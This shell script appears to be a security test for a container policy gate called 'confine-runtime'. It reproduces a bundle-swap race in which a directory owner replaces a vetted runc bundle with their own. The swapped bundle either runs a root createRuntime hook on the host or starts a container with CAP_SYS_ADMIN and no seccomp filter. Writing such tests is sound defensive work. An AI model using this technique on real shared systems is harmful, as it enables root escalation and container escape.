#!/bin/sh
# found-17 (create) and found-18 (run, MODE=run): a root-owned bundle
# whose parent directory another user owns (their home, a shared job
# directory). The gate judged <bundle>/config.json through a directory
# fd, but runc is handed the bundle by path: the directory's owner
# renames the judged bundle away and puts their own in its place before
# runc changes into it.
#  - create: their config.json adds a createRuntime hook, which runc runs
#    as root on the host during `runc create`, before the check after
#    create sees the other bundle;
#  - run: their config.json has no filter, CAP_SYS_ADMIN and no hook:
#    the container runs unconfined, and nothing checks it afterwards.
# The race is made deterministic: the policy's runtime is a wrapper that
# does the owner's swap, the interleaving a racer with inotify wins
# (the red team's attacks/found-02.sh), and then execs runc.
# Positive controls first: the same bundle through the same wrapper under
# a root-owned directory and directly in /tmp (root's sticky directory)
# runs. Exit 0: the attacker's hook or container ran; 1: refused, and
# neither ran; 2: a control failed.
. "$(dirname "$0")/lib.sh"
MODE=${MODE:-create}
policy "
p['runtime']=w+'/swap-runc'
p['inject']['hook']='$MODE'=='run'
"
H=$W/home
R=$W/runc
T=
id=
cleanup () {
  [ -n "$id" ] && runc --root "$R" delete -f "$id" 2>/dev/null
  [ -n "$T" ] && rm -rf "$T"
}
# The owner's swap, when their bundle is there.
cat > "$W/swap-runc" <<EOF
#!/bin/sh
if [ -d "$H/.evil" ]; then mv "$H/b" "$H/b.judged" && mv "$H/.evil" "$H/b" && echo swapped > "$W/swapped"; fi
exec runc "\$@"
EOF
chmod 755 "$W/swap-runc"

# launch BUNDLE ID: create and start (or run) through the shim; the
# shim's output goes to $W/launch.out.
launch () {
  id=$2
  if [ "$MODE" = run ]; then
    CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" run -b "$1" "$id" < /dev/null > "$W/launch.out" 2>&1
    return
  fi
  CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" create --bundle "$1" --pid-file "$W/pid" "$id" \
    < /dev/null > "$W/launch.out" 2>&1 || return
  CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" start "$id" < /dev/null >> "$W/launch.out" 2>&1 || return
  i=0; while [ ! -e "$W/out/ran" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}
ARGS="c['process']['args']=['sh','-c','echo ran > /out/ran']"

# Controls: a root-owned parent, and root's sticky /tmp.
T=$(mktemp -d /tmp/confine-f17.XXXXXX); chmod 755 "$T"
for b in "$W/root/b" "$T"; do
  mkdir -p "$(dirname "$b")"
  bundle "$b" "$ARGS"
  rm -f "$W/out/ran"
  launch "$b" "rt17c-$$"; rc=$?
  runc --root "$R" delete -f "$id" 2>/dev/null
  if [ ! -e "$W/out/ran" ]; then
    echo "CONTROL FAILED: $MODE of a bundle at $b (exit $rc) did not run:"; cat "$W/launch.out"; exit 2
  fi
  echo "control: $MODE of a bundle at $b ran"
done

# The attack.
mkdir -p "$H"
bundle "$H/b" "$ARGS"
if [ "$MODE" = run ]; then
  bundle "$H/.evil" "
c['process']['args']=['sh','-c','grep -E \"^(Seccomp|CapEff):\" /proc/self/status > /out/unconfined']
for s in c['process']['capabilities'].values(): s.append('CAP_SYS_ADMIN')
c['linux'].pop('seccomp', None)
c.pop('hooks', None)
"
else
  bundle "$H/.evil" "
$ARGS
c['hooks']={'createRuntime':[{'path':'/bin/sh','args':['sh','-c','id -u > $W/out/hook-ran']}]}
"
fi
chown -R 65534:65534 "$H/.evil"; chown 65534:65534 "$H"; chmod 755 "$H"
rm -f "$W/out/ran"
launch "$H/b" "rt17-$$"; rc=$?
cat "$W/launch.out"
[ -e "$W/swapped" ] && echo "the owner's swap happened: runc was run"
if [ -e "$W/out/hook-ran" ]; then
  echo "ATTACK WORKED: $MODE exit $rc; the attacker's createRuntime hook ran on the host as uid $(cat "$W/out/hook-ran")"; exit 0
fi
if [ -e "$W/out/unconfined" ]; then
  echo "ATTACK WORKED: $MODE exit $rc; the attacker's container ran with $(tr '\n\t' '  ' < "$W/out/unconfined")"; exit 0
fi
if [ -e "$W/out/ran" ]; then echo "the judged container ran (exit $rc)"; exit 1; fi
echo "refused (exit $rc): neither the attacker's hook nor their container ran"
exit 1
